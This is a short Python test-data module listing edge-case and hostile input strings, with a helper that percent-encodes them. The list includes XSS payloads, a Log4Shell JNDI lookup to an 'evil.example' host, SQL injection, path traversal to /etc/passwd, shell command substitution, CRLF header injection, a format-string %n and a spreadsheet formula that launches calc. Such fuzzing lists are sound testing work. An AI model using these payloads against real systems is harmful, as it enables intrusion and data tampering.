"""Texts that mean something to some machine, if it takes them for more than text."""

TEXTS = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{head.title}}{{{body}}}", "${jndi:ldap://evil.example/x}",
    "'; DROP TABLE members; --", "\" OR 1=1 --", "../../../../etc/passwd", "$(touch /tmp/owned)", "`id`", "|| ping evil.example",
    "\r\nSet-Cookie: x=1", "a\nb", "a\u0000b", "\u202egnp.exe", "\u2028line", "\ufeffbom", "%00%0d%0a", "%s%s%s%n", "=cmd|' /C calc'!A0",
    "\",\"points\":999999,\"x\":\"", "\\\",\\\"", "名" * 200, "𠮷" * 50, "e\u0301" * 25, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ud800", "null", "true",
    "-1", "1e309", "NaN", "[]", "{}", " ", "\u3000", "/" * 64, "." * 80, "-" * 80, "P1-1", "477127567449", "13800138000",
]


def percent(text):
    """Every byte as %XX, also those of half a character."""
    return "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
